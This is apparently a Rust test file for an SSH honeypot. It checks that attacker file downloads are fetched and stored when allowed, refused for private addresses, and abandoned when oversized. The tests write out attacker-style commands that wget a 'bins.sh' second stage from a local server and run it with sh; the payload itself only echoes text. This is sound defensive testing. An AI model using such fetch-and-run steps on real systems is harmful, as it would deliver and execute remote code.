//! Opt-in sample fetching: a real node, a real HTTP server on 127.0.0.1 and the SSH shell.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use sha2::{Digest, Sha256};

use crate::common::{NodeProcess, SshShell};

/// A real HTTP/1.1 server on 127.0.0.1 answering every GET with `body`, for a bounded time;
/// counts the connections it accepted.
fn serve(body: &'static [u8]) -> (SocketAddr, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let addr = listener.local_addr().unwrap();
    let accepted = Arc::new(AtomicUsize::new(0));
    let count = accepted.clone();
    std::thread::spawn(move || {
        let deadline = Instant::now() + Duration::from_secs(60);
        while Instant::now() < deadline {
            let Ok((mut stream, _)) = listener.accept() else {
                std::thread::sleep(Duration::from_millis(20));
                continue;
            };
            count.fetch_add(1, Ordering::SeqCst);
            stream.set_nonblocking(false).ok();
            stream.set_read_timeout(Some(Duration::from_secs(5))).ok();
            let mut request = Vec::new();
            let mut buf = [0u8; 1024];
            while !request.windows(4).any(|w| w == b"\r\n\r\n") && request.len() < 65536 {
                match stream.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => request.extend_from_slice(&buf[..n]),
                }
            }
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            stream.write_all(head.as_bytes()).ok();
            stream.write_all(body).ok();
        }
    });
    (addr, accepted)
}

const SAMPLE: &[u8] = b"#!/bin/sh\n# the real second stage\necho fetched-for-real\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_allowed_download_is_fetched_stored_and_replaces_the_stand_in() {
    let (addr, accepted) = serve(SAMPLE);
    let node = NodeProcess::start(&[
        ("MIRAGE_SAMPLES_FETCH", "true"),
        ("MIRAGE_SAMPLES_ALLOW_NETWORKS", "127.0.0.1/32"),
    ]);
    let url = format!("http://{addr}/bins.sh");
    let mut shell = SshShell::open(node.ssh).await;
    let out = shell.run(&format!("cd /tmp; wget {url}")).await;
    assert!(out.contains("saved ["), "{out:?}");

    let sha = hex::encode(Sha256::digest(SAMPLE));
    let events = tokio::task::block_in_place(|| {
        node.wait_for_log("the fetched download", |e| {
            e["eventid"] == "cowrie.session.file_download"
        })
    });
    let downloads: Vec<_> = events
        .iter()
        .filter(|e| e["eventid"] == "cowrie.session.file_download")
        .collect();
    assert_eq!(downloads.len(), 1, "one event, for the real sample");
    assert_eq!(downloads[0]["url"], url);
    assert_eq!(downloads[0]["outfile"], "/tmp/bins.sh");
    assert_eq!(downloads[0]["shasum"], sha);
    assert_eq!(accepted.load(Ordering::SeqCst), 1);
    assert_eq!(
        std::fs::read(node.data_dir.join("downloads").join(&sha)).unwrap(),
        SAMPLE
    );
    // The attacker now has the real file.
    assert_eq!(
        shell.run("cat /tmp/bins.sh").await,
        "#!/bin/sh\r\n# the real second stage\r\necho fetched-for-real\r\n"
    );
    assert_eq!(shell.run("sh /tmp/bins.sh").await, "fetched-for-real\r\n");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_private_address_is_refused_and_never_contacted() {
    let (addr, accepted) = serve(SAMPLE);
    let node = NodeProcess::start(&[("MIRAGE_SAMPLES_FETCH", "true")]);
    let url = format!("http://{addr}/bins.sh");
    let mut shell = SshShell::open(node.ssh).await;
    let out = shell.run(&format!("cd /tmp; wget {url}")).await;
    // The attacker sees the emulated download either way.
    assert!(out.contains("saved ["), "{out:?}");
    let events = tokio::task::block_in_place(|| {
        node.wait_for_log("the refused download", |e| {
            e["eventid"] == "cowrie.session.file_download.failed"
        })
    });
    let failed = events
        .iter()
        .find(|e| e["eventid"] == "cowrie.session.file_download.failed")
        .unwrap();
    assert_eq!(failed["url"], url);
    assert_eq!(
        failed["reason"],
        "refused: 127.0.0.1 is not a public address"
    );
    assert!(
        !events
            .iter()
            .any(|e| e["eventid"] == "cowrie.session.file_download")
    );
    assert_eq!(accepted.load(Ordering::SeqCst), 0);
    assert!(!node.data_dir.join("downloads").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_oversized_sample_is_abandoned() {
    let (addr, accepted) = serve(SAMPLE);
    let node = NodeProcess::start(&[
        ("MIRAGE_SAMPLES_FETCH", "true"),
        ("MIRAGE_SAMPLES_ALLOW_NETWORKS", "127.0.0.0/8"),
        ("MIRAGE_SAMPLES_MAX_BYTES", "16"),
    ]);
    let url = format!("http://{addr}/bins.sh");
    let shell = SshShell::open(node.ssh).await;
    let (out, _) = shell.exec(&format!("wget -q -O /tmp/x {url}")).await;
    assert_eq!(out, "");
    let events = tokio::task::block_in_place(|| {
        node.wait_for_log("the abandoned download", |e| {
            e["eventid"] == "cowrie.session.file_download.failed"
        })
    });
    let failed = events
        .iter()
        .find(|e| e["eventid"] == "cowrie.session.file_download.failed")
        .unwrap();
    assert_eq!(failed["reason"], "larger than 16 bytes");
    assert_eq!(accepted.load(Ordering::SeqCst), 1);
}
